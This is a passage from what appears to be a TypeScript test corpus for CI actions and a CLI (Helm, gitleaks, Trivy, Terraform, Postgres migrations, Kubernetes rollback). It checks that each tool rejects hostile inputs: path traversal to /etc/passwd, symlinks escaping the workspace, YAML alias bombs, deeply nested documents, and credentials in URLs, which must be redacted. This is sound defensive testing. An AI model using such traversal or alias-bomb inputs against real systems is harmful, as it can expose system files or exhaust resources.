    expect: /^gitleaks-scan: gitleaks\.toml is a symlink that leads outside the workspace/,
  },
  {
    action: 'gitleaks-scan',
    name: 'a .gitleaks.toml that extends a file outside the workspace',
    files: { 'README.md': '# x\n', '.gitleaks.toml': '[extend]\npath = "{outside}/config.toml"\n' },
    inputs: {},
    expect: /\.gitleaks\.toml \[extend\] path ".*config\.toml" is outside the workspace; it is not read/,
  },
  {
    action: 'gitleaks-scan',
    name: 'a .gitleaks.toml that extends ../../../../etc/passwd',
    files: { 'README.md': '# x\n', '.gitleaks.toml': '[extend]\npath = "../../../../../../etc/passwd"\n' },
    inputs: {},
    expect: /\.gitleaks\.toml \[extend\] path "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd" is outside the workspace/,
  },
  {
    action: 'gitleaks-scan',
    name: 'a .gitleaks.toml that extends a link leading outside',
    files: { 'README.md': '# x\n', '.gitleaks.toml': '[extend]\npath = "base.toml"\n', 'base.toml': 'link:{outside}/config.toml' },
    inputs: {},
    expect: /\.gitleaks\.toml \[extend\] path "base\.toml" is a symlink that leads outside the workspace/,
  },
  {
    action: 'gitleaks-scan',
    name: 'a committed .gitleaksignore that links outside the workspace',
    files: { 'README.md': '# x\n', '.gitleaksignore': 'link:{outside}/secret.txt' },
    inputs: {},
    expect: /\.gitleaksignore is a symlink that leads outside the workspace/,
  },
  {
    action: 'gitleaks-scan',
    name: 'GITLEAKS_CONFIG naming a file outside the workspace',
    files: { 'README.md': '# x\n' },
    env: { GITLEAKS_CONFIG: '{outside}/config.toml' },
    inputs: {},
    expect: /GITLEAKS_CONFIG \(.*config\.toml\) is outside the workspace; it is not read/,
  },
  {
    action: 'gitleaks-scan',
    name: 'config through a dangling symlink leading outside',
    files: { 'README.md': '# x\n', 'gl.toml': 'link:{outside}/no-such.toml' },
    inputs: { config: 'gl.toml' },
    expect: /input "config" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'gitleaks-scan',
    name: 'baseline-path through a symlink to /etc/passwd',
    inputs: { 'baseline-path': 'passwd-link' },
    expect: /input "baseline-path" must be a path inside the workspace/,
  },
  {
    action: 'gitleaks-scan',
    name: 'path through a dangling symlink',
    files: { 'README.md': '# x\n', src: 'link:{outside}/no-such-dir' },
    inputs: { path: 'src', mode: 'dir' },
    expect: /input "path" must be a path inside the workspace/,
  },
];

const tfB: CorpusCase[] = [
  {
    action: 'tf-lock-check',
    name: 'a workflow that is a YAML alias bomb (the scan ends, the file is named)',
    files: { 'infra/main.tf': TF, '.github/workflows/bomb.yml': BOMB },
    inputs: { 'fail-on': 'low' },
    expect: /\d+ findings? at or above "low"/,
    expectLog: /\.github\/workflows\/bomb\.yml: expands through its aliases to more than 1,000,000 extra nodes/,
    outcome: 'policy-failure',
    maxMs: 15_000,
  },
  {
    action: 'tf-lock-check',
    name: 'a workflow nested 10,000 deep',
    files: { 'infra/main.tf': TF, '.github/workflows/deep.yml': `on: push\njobs:\n  a: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n` },
    inputs: { 'fail-on': 'low' },
    expect: /\d+ findings? at or above "low"/,
    expectLog: /\.github\/workflows\/deep\.yml: nests collections deeper than 128 levels/,
    outcome: 'policy-failure',
    maxMs: 15_000,
  },
  {
    action: 'tf-lock-check',
    name: 'a workflow with a recursive alias',
    files: { 'infra/main.tf': TF, '.github/workflows/rec.yml': `on: push\n${RECURSIVE}jobs: {}\n` },
    inputs: { 'fail-on': 'low' },
    expect: /\d+ findings? at or above "low"/,
    expectLog: /\.github\/workflows\/rec\.yml: has a recursive alias/,
    outcome: 'policy-failure',
  },
  {
    action: 'tf-lock-check',
    name: 'backend-config through a dangling symlink leading outside',
    files: { 'infra/main.tf': TF, 'infra/prod.tfbackend': 'link:{outside}/no-such.tfbackend' },
    inputs: { command: 'status', 'working-directory': 'infra', 'backend-config': 'prod.tfbackend' },
    expect: /input "backend-config"/,
  },
];

const migB: CorpusCase[] = [
  {
    action: 'migration-test',
    name: 'database-url with an unencoded password holding / @ # %, to a closed port',
    inputs: { 'database-url': `postgresql://app:${CORPUS_PASSWORD}@127.0.0.1:9/app`, 'wait-timeout': '3s' },
    expect: /database-url|connect/,
    outcome: 'tool-error',
    maxMs: 20_000,
  },
  {
    action: 'migration-test',
    name: 'database-url for MySQL with an unencoded password',
    inputs: { 'database-url': `mysql://root:${CORPUS_PASSWORD}@127.0.0.1/app` },
    expect: /input "database-url" must use the postgres:\/\/ or postgresql:\/\/ scheme/,
  },
  {
    action: 'migration-test',
    name: 'database-url with a password that is not valid percent-encoding',
    inputs: { 'database-url': 'postgresql://app:%9x%zz-Secret9@127.0.0.1:9/app', 'wait-timeout': '3s' },
    expect: /input "database-url" must percent-encode special characters in the user, password and database name/,
  },
  {
    action: 'migration-test',
    name: 'seed-dir through a symlink leading outside',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'seed-dir': 'link-out' },
    expect: /input "seed-dir" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'migration-test',
    name: 'migrations-dir outside the workspace',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'migrations-dir': '../../../etc' },
    expect: /input "migrations-dir" must be a path inside the workspace/,
  },
  {
    action: 'migration-test',
    name: 'migrations-dir through a symlink leading outside',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'migrations-dir': 'link-out' },
    expect: /input "migrations-dir" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'migration-test',
    name: 'working-directory through a dangling symlink',
    files: { wd: 'link:{outside}/no-such-dir' },
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'working-directory': 'wd' },
    expect: /input "working-directory" must be a path inside the workspace/,
  },
];

const trivyB: CorpusCase[] = [
  ...['.trivyignore', '.trivyignore.yaml', '.trivyignore.yml'].map((f): CorpusCase => ({
    action: 'trivy-scan',
    name: `a committed ${f} that links outside the workspace`,
    files: { [f]: 'link:{outside}/secret.txt' },
    inputs: { targets: 'fs:.', version: 'system' },
    expect: new RegExp(`^trivy-scan: ${f.replace(/\./g, '\\.')} is a symlink that leads outside the workspace; it is not read`),
  })),
  {
    action: 'trivy-scan',
    name: 'a .trivyignore.yaml that is a YAML alias bomb',
    files: { '.trivyignore.yaml': BOMB },
    inputs: { targets: 'fs:.', version: 'system' },
    expect: /\.trivyignore\.yaml expands through its aliases/,
  },
  {
    action: 'trivy-scan',
    name: 'a .trivyignore.yaml nested 10,000 deep',
    files: { '.trivyignore.yaml': DEEP },
    inputs: { targets: 'fs:.', version: 'system' },
    expect: /\.trivyignore\.yaml nests collections deeper/,
  },
  {
    action: 'trivy-scan',
    name: 'ignore-file through a symlink to /etc/passwd',
    inputs: { targets: 'fs:.', 'ignore-file': 'passwd-link' },
    expect: /input "ignore-file" must be a path inside/,
  },
  {
    action: 'trivy-scan',
    name: 'an fs target through a symlink leading outside',
    inputs: { targets: 'fs:link-out' },
    expect: /input "targets" must be a path inside the workspace/,
  },
  {
    action: 'trivy-scan',
    name: 'a database mirror that accepts and never answers: bounded by timeout',
    inputs: { targets: 'fs:.', version: 'system', 'db-repositories': '{hang}/trivy-db:2', timeout: '10s' },
    expect:
      /could not download the vulnerability database from any repository within the 10s limit of the timeout input \(\d+(\.\d)?s spent\): 127\.0\.0\.1:\d+\/trivy-db:2 \(timed out after \d+(\.\d)?s \(limit \d+(\.\d)?s\)\)/,
    outcome: 'tool-error',
    maxMs: 35_000,
  },
  {
    action: 'trivy-scan',
    name: 'trivy killed by SIGKILL while scanning: the signal named, never "exit code null"',
    env: { PATH: '{trivy-killed-dir}:{PATH}' },
    inputs: { targets: 'fs:.', version: 'system', offline: 'true', 'cache-dir': '{trivy-cache}' },
    expect: /^trivy-scan: trivy was killed by SIGKILL \(often the out-of-memory killer[^)]*\) while scanning fs:\.$/,
    outcome: 'tool-error',
  },
  {
    action: 'trivy-scan',
    name: 'trivy killed by SIGKILL while downloading the database',
    env: { PATH: '{trivy-killed-dir}:{PATH}' },
    inputs: { targets: 'fs:.', version: 'system', 'db-repositories': '{hang}/trivy-db:2', timeout: '10s' },
    expect: /127\.0\.0\.1:\d+\/trivy-db:2 \(was killed by SIGKILL/,
    outcome: 'tool-error',
    maxMs: 35_000,
  },
  {
    action: 'trivy-scan',
    name: 'two database mirrors that never answer: one budget for both, each named',
    inputs: { targets: 'fs:.', version: 'system', 'db-repositories': '{hang}/trivy-db:2\n{hang2}/trivy-db:2', timeout: '10s' },
    expect:
      /within the 10s limit of the timeout input .*: 127\.0\.0\.1:\d+\/trivy-db:2 \(timed out after [^)]+\)\); 127\.0\.0\.1:\d+\/trivy-db:2 \((timed out after|not tried: no time left)/,
    outcome: 'tool-error',
    maxMs: 35_000,
  },
];

const K = { manifests: 'k8s' };
const k8sB: CorpusCase[] = [
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig server URL carrying a password (unreachable)',
    inputs: { ...K, kubeconfig: kubeconfig(`https://admin:${urlPw}@127.0.0.1:1`) },
    expect: /kubeconfig: the Kubernetes API server https:\/\/\*\*\*@127\.0\.0\.1:1 did not answer after 3 attempts/,
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig server URL with an unencoded password holding / @ %',
    inputs: { ...K, kubeconfig: kubeconfig(`https://admin:${URL_PASSWORD}@127.0.0.1:1`) },
    expect: /kubeconfig/,
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig server URL with a token as the user',
    inputs: { ...K, kubeconfig: kubeconfig(`https://${CORPUS_TOKEN}@127.0.0.1:1`) },
    expect: /kubeconfig: the Kubernetes API server https:\/\/\*\*\*@127\.0\.0\.1:1 did not answer/,
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig proxy-url carrying a password',
    inputs: { ...K, kubeconfig: kubeconfig('https://127.0.0.1:1', `      proxy-url: http://proxy:${urlPw}@127.0.0.1:9\n`) },
    expect: /kubeconfig/,
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig that is a YAML alias bomb',
    inputs: { ...K, kubeconfig: `${closedKube}${BOMB}` },
    expect: /input "kubeconfig" must be a kubeconfig \(YAML with clusters, users and contexts\); it expands through its aliases/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig nested 10,000 deep',
    inputs: { ...K, kubeconfig: `${closedKube}${DEEP}` },
    expect: /input "kubeconfig" must be a kubeconfig .*; it nests collections deeper than 128 levels/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubeconfig with a recursive alias',
    inputs: { ...K, kubeconfig: `${closedKube}${RECURSIVE}` },
    expect: /input "kubeconfig" must be a kubeconfig .*; it has a recursive alias/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest that links outside the workspace',
    files: { 'deploy/cm.yaml': 'link:{outside}/manifest.yaml' },
    inputs: { manifests: 'deploy/cm.yaml', kubeconfig: closedKube },
    expect: /input "manifests" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifests folder that links outside the workspace',
    files: { deploy: 'link:{outside}/manifests' },
    inputs: { manifests: 'deploy', kubeconfig: closedKube },
    expect: /input "manifests" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a kustomize folder that links outside the workspace',
    files: { kust: 'link:{outside}/kustomize' },
    inputs: { manifests: 'kust', kubeconfig: closedKube },
    expect: /input "manifests" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest inside a folder that links outside the workspace',
    files: { 'deploy/a.yaml': CM, 'deploy/b.yaml': 'link:{outside}/manifest.yaml' },
    inputs: { manifests: 'deploy', kubeconfig: closedKube },
    expect: /manifests: deploy\/b\.yaml is a symlink that leads outside the workspace; it is not read/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest matched by a glob that links outside the workspace',
    files: { 'deploy/a.yaml': CM, 'deploy/b.yaml': 'link:{outside}/manifest.yaml' },
    inputs: { manifests: 'deploy/*.yaml', kubeconfig: closedKube },
    expect: /manifests: deploy\/b\.yaml is a symlink that leads outside the workspace/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest that is a YAML alias bomb',
    files: { 'deploy/bomb.yaml': BOMB },
    inputs: { manifests: 'deploy/bomb.yaml', kubeconfig: closedKube },
    expect: /manifests: deploy\/bomb\.yaml expands through its aliases/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest nested 10,000 deep',
    files: { 'deploy/deep.yaml': DEEP },
    inputs: { manifests: 'deploy/deep.yaml', kubeconfig: closedKube },
    expect: /manifests: deploy\/deep\.yaml nests collections deeper/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'a manifest with a recursive alias',
    files: { 'deploy/rec.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: r\n  labels: &l {a: *l}\n` },
    inputs: { manifests: 'deploy/rec.yaml', kubeconfig: closedKube },
    expect: /manifests: deploy\/rec\.yaml has a recursive alias/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'chart outside the workspace (../)',
    inputs: { chart: '../..', release: 'r', kubeconfig: closedKube },
    expect: /input "chart" must be a path inside the workspace/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'chart by an absolute path outside the workspace',
    inputs: { chart: '{outside}/chart', release: 'r', kubeconfig: closedKube },
    expect: /input "chart" must be a path inside the workspace/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'chart through a symlink leading outside',
    files: { 'charts/x': 'link:{outside}/chart' },
    inputs: { chart: 'charts/x', release: 'r', kubeconfig: closedKube },
    expect: /input "chart" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'chart holding a template that links outside',
    files: { 'charts/y/Chart.yaml': CHART_YAML('y'), 'charts/y/templates/cm.yaml': 'link:{outside}/manifest.yaml' },
    inputs: { chart: './charts/y', release: 'r', kubeconfig: closedKube },
    expect: /input "chart" .*charts\/y\/templates\/cm\.yaml inside it leads outside the workspace/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'values-files outside the workspace',
    files: { 'charts/y/Chart.yaml': CHART_YAML('y'), 'charts/y/templates/cm.yaml': CM },
    inputs: { chart: './charts/y', release: 'r', 'values-files': '../../../etc/passwd', kubeconfig: closedKube },
    expect: /input "values-files" must be a path inside the workspace/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'values-files through a symlink leading outside',
    files: { 'charts/y/Chart.yaml': CHART_YAML('y'), 'charts/y/templates/cm.yaml': CM, 'prod.yaml': 'link:{outside}/secret.txt' },
    inputs: { chart: './charts/y', release: 'r', 'values-files': 'prod.yaml', kubeconfig: closedKube },
    expect: /input "values-files" must be a path inside the workspace .*symlink that leads outside/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'smoke-url carrying a password that is not http(s)',
    inputs: { ...K, kubeconfig: closedKube, 'smoke-url': `ftp://tester:${urlPw}@smoke.example/health` },
    expect: /input "smoke-url" must be an http\(s\) URL; got "ftp:\/\/\*\*\*@smoke\.example\/health"/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'webhook-url carrying a password over plain http',
    inputs: { ...K, kubeconfig: closedKube, 'webhook-url': `http://hook:${urlPw}@hooks.example/x` },
    expect: /input "webhook-url" must be an https:\/\/ URL/,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'smoke-url carrying a password (unreachable API server)',
    inputs: { ...K, kubeconfig: closedKube, 'smoke-url': `https://tester:${urlPw}@smoke.example/health` },
    expect: /did not answer after 3 attempts/,
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubectl killed by SIGKILL: a tool error naming kubectl and the signal',
    inputs: { ...K, kubeconfig: kubeconfig('https://{hang}'), kubectl: '{kubectl-sigkill}' },
    expect: /^k8s-deploy-rollback: kubectl version \(checking the API server\) was killed by SIGKILL \(/,
    outcome: 'tool-error',
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'kubectl that hangs: a tool error with the real time taken',
    inputs: { ...K, kubeconfig: kubeconfig('https://{hang}'), kubectl: '{kubectl-stop}' },
    expect: /^k8s-deploy-rollback: kubectl version \(checking the API server\) timed out after \d+(\.\d)?s \(limit 10s\)$/,
    outcome: 'tool-error',
    maxMs: 30_000,
  },
  {
    action: 'k8s-deploy-rollback',
    name: 'an API server that accepts and never answers: bounded',
    inputs: { ...K, kubeconfig: kubeconfig('https://{hang}') },
    expect: /kubeconfig: the Kubernetes API server https:\/\/127\.0\.0\.1:\d+ did not answer after 3 attempts/,
    maxMs: 35_000,
  },
];

/** Everything the boundary cases add, by action. */
const boundaryCases: CorpusCase[] = [...helmB, ...gitleaksB, ...tfB, ...migB, ...trivyB, ...k8sB];

// ---- The CLI: workflow files it reads, credentials on its command line. ----
export interface CliCorpusCase {
  name: string;
  /** The repository `{repo}` (a git repository). */
  files: Record<string, string>;
  /** `{repo}` and `{json}` (a report path outside the repository) are filled in. */
  argv: string[];
  /** usage: exit 2 and one stderr line matching `expect`; run: a stage ran and failed (exit 2), `expect` in stdout. */
  kind: 'usage' | 'run';
  expect: RegExp;
  maxMs?: number;
}

const WF_MIGRATION = `on: push
jobs:
  m:
    runs-on: ubuntu-latest
    steps:
      - uses: acme/platform-actions/actions/migration-test@v1
        with:
          database-url: \${{ secrets.DATABASE_URL }}
          wait-timeout: 3s
`;
const WF_HELM = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/platform-actions/actions/helm-validate@v1\n';
const RAW_DB = `postgresql://app:${CORPUS_PASSWORD}@127.0.0.1:9/app`;

export const cliCases: CliCorpusCase[] = [
  {
    name: 'a workflow file that is a YAML alias bomb',
    files: { '.github/workflows/ci.yml': BOMB },
    argv: ['check', '--repo', '{repo}'],
    kind: 'usage',
    expect: /^platform-actions: \.github\/workflows\/ci\.yml expands through its aliases to more than 1,000,000 extra nodes/,
    maxMs: 15_000,
  },
  {
    name: 'a workflow file nested 10,000 deep',
    files: { '.github/workflows/ci.yml': DEEP },
    argv: ['check', '--repo', '{repo}'],
    kind: 'usage',
    expect: /^platform-actions: \.github\/workflows\/ci\.yml nests collections deeper than 128 levels/,
  },
  {
    name: 'a workflow file with a recursive alias',
    files: { '.github/workflows/ci.yml': `${WF_HELM}x: &x [*x]\n` },
    argv: ['check', '--repo', '{repo}', '--list'],
    kind: 'usage',
    expect: /^platform-actions: \.github\/workflows\/ci\.yml has a recursive alias/,
  },
  {
    name: 'a reusable workflow it calls that is a YAML alias bomb',
    files: {
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    uses: ./.github/workflows/reuse.yml\n',
      '.github/workflows/reuse.yml': `on: workflow_call\n${BOMB}`,
    },
    argv: ['check', '--repo', '{repo}', '--list'],
    kind: 'usage',
    expect: /reuse\.yml expands through its aliases/,
  },
  {
    name: '.platform-actions.yml that is a YAML alias bomb',
    files: { '.github/workflows/ci.yml': WF_HELM, '.platform-actions.yml': BOMB },
    argv: ['check', '--repo', '{repo}'],
    kind: 'usage',
    expect: /^platform-actions: \.platform-actions\.yml expands through its aliases/,
  },
  {
    name: '.platform-actions.yml nested 10,000 deep',
    files: { '.github/workflows/ci.yml': WF_HELM, '.platform-actions.yml': DEEP },
    argv: ['check', '--repo', '{repo}'],
    kind: 'usage',
    expect: /^platform-actions: \.platform-actions\.yml nests collections deeper/,
  },
  {
    name: '--database-url with an unencoded password, not postgres',
    files: { '.github/workflows/ci.yml': WF_MIGRATION },
    argv: ['check', '--repo', '{repo}', '--database-url', `mysql://app:${CORPUS_PASSWORD}@127.0.0.1/x`],
    kind: 'usage',
    expect: /^platform-actions: --database-url expects a postgres:\/\/ or postgresql:\/\/ URL; got "mysql:\/\/\*\*\*@127\.0\.0\.1\/x"$/,
  },
  {
    name: '--database-url=… inline, with an unencoded password, not postgres',
    files: { '.github/workflows/ci.yml': WF_MIGRATION },
    argv: ['check', '--repo', '{repo}', `--database-url=mysql://app:${CORPUS_PASSWORD}@127.0.0.1/x`],
    kind: 'usage',
    expect: /^platform-actions: --database-url expects a postgres:\/\/ or postgresql:\/\/ URL; got "mysql:\/\/\*\*\*@127\.0\.0\.1\/x"$/,
  },
  {
    name: '--database-url with an unencoded password, given with --postgres too',
    files: { '.github/workflows/ci.yml': WF_MIGRATION },
    argv: ['check', '--repo', '{repo}', '--database-url', RAW_DB, '--postgres'],
    kind: 'usage',
    expect: /^platform-actions: --database-url and --postgres: give one of them, not both$/,
  },
  {
    name: 'check with --database-url holding an unencoded password (closed port)',
    files: { '.github/workflows/ci.yml': WF_MIGRATION },
    argv: ['check', '--repo', '{repo}', '--database-url', RAW_DB, '--json', '{json}'],
    kind: 'run',
    expect: /migration-test/,
    maxMs: 40_000,
  },
  {
    name: 'check with --input migration-test.database-url holding an unencoded password',
    files: { '.github/workflows/ci.yml': WF_MIGRATION },
    argv: ['check', '--repo', '{repo}', '--input', `migration-test.database-url=${RAW_DB}`, '--json', '{json}'],
    kind: 'run',
    expect: /migration-test/,
    maxMs: 40_000,
  },
  {
    name: 'run migration-test with --database-url holding an unencoded password',
    files: { 'README.md': '# x\n' },
    argv: ['run', 'migration-test', '--repo', '{repo}', '--database-url', RAW_DB, '--input', 'wait-timeout=3s', '--json', '{json}'],
    kind: 'run',
    expect: /migration-test/,
    maxMs: 40_000,
  },
  {
    name: 'run k8s-deploy-rollback with a kubeconfig whose server URL carries a password',
    files: { 'k8s/cm.yaml': CM },
    argv: [
      'run',
      'k8s-deploy-rollback',
      '--repo',
      '{repo}',
      '--input',
      `kubeconfig=${kubeconfig(`https://admin:${urlPw}@127.0.0.1:1`)}`,
      '--input',
      'manifests=k8s',
      '--json',
      '{json}',
    ],
    kind: 'run',
    expect: /k8s-deploy-rollback/,
    maxMs: 40_000,
  },
  {
    name: 'run helm-validate with a helm-mirror carrying a token as the user',
    files: { 'charts/web/Chart.yaml': CHART_YAML('web'), 'charts/web/templates/cm.yaml': CM },
    argv: ['run', 'helm-validate', '--repo', '{repo}', '--input', `helm-mirror=https://${CORPUS_TOKEN}@mirror.example/helm`, '--input', 'helm-version=3.18.4', '--json', '{json}'],
    kind: 'run',
    expect: /helm-validate/,
    maxMs: 40_000,
  },
];

export const actionCases: CorpusCase[] = [...helm, ...gitleaks, ...tf, ...mig, ...testReport, ...boundaryCases];
